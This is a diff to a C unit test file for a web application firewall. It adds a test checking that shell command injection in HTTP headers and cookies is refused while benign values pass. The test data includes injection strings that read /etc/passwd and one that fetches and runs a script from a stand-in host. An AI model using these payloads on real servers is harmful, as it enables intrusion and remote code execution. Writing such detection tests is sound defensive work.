@@ -189,6 +189,49 @@ static void test_python_rules(void **state)
     moat_config_free(c);
 }
 
+/* One GET with an extra header; true when refused, and rule matched. */
+static bool header_refused(moat_waf *w, const char *name, const char *value, const char *rule)
+{
+    moat_waf_verdict v;
+    memset(&v, 0, sizeof(v));
+    moat_waf_tx *t = moat_waf_tx_new(w, "127.0.0.1", "GET", "/page", 1);
+    moat_waf_tx_header(t, "Host", 4, "app.example", 11);
+    moat_waf_tx_header(t, "Accept", 6, "*/*", 3);
+    moat_waf_tx_header(t, name, strlen(name), value, strlen(value));
+    if (!moat_waf_tx_head(t, &v)) moat_waf_tx_body(t, "", 0, false, &v);
+    moat_waf_tx_free(t);
+    assert_false(v.engine_err);
+    return v.attack && (!rule || has_rule(&v, rule));
+}
+
+static void test_header_and_cookie_commands(void **state)
+{
+    (void)state;
+    moat_config *c = moat_config_default();
+    moat_waf *w = load(c);
+    assert_true(header_refused(w, "User-Agent", "x; cat /etc/passwd", "1901210"));
+    assert_true(header_refused(w, "X-Api-Client", "a && id", "1901210"));
+    assert_true(header_refused(w, "User-Agent", "$(curl evil.example/x|sh)", NULL));
+    assert_true(header_refused(w, "Cookie", "pref=x`uname -a`", "1901210"));
+    assert_true(header_refused(w, "Cookie", "pref=; cat /etc/passwd", "1901220"));
+    const char *const benign_ua[] = {
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
+        "Chrome/120.0.0.0 Safari/537.36",
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15",
+        "curl/7.88.1",
+        "python-requests/2.28.1",
+        "Wget/1.21.3",
+        "HTTPie/3.2.1"};
+    for (size_t i = 0; i < MOAT_ARRAY_LEN(benign_ua); i++)
+        if (header_refused(w, "User-Agent", benign_ua[i], NULL))
+            fail_msg("refused UA %s", benign_ua[i]);
+    assert_false(header_refused(w, "Referer", "https://app.example/list?page=2&id=7;ls=1", NULL));
+    assert_false(header_refused(w, "Cookie", "id=5; session=abc; theme=dark; lang=en", NULL));
+    assert_false(header_refused(w, "Cookie", "cart=cat food; ls=1", NULL));
+    moat_waf_free(w);
+    moat_config_free(c);
+}
+
 static void test_upload_file_name(void **state)
 {
     (void)state;
@@ -443,13 +486,10 @@ static void test_log_lines(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(test_python_rules),
-        cmocka_unit_test(test_upload_file_name),
-        cmocka_unit_test(test_crs_and_unparsable_body),
-        cmocka_unit_test(test_partial_body),
-        cmocka_unit_test(test_modes),
-        cmocka_unit_test(test_exclusions),
-        cmocka_unit_test(test_bad_rule_files),
+        cmocka_unit_test(test_python_rules),     cmocka_unit_test(test_header_and_cookie_commands),
+        cmocka_unit_test(test_upload_file_name), cmocka_unit_test(test_crs_and_unparsable_body),
+        cmocka_unit_test(test_partial_body),     cmocka_unit_test(test_modes),
+        cmocka_unit_test(test_exclusions),       cmocka_unit_test(test_bad_rule_files),
         cmocka_unit_test(test_log_lines),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
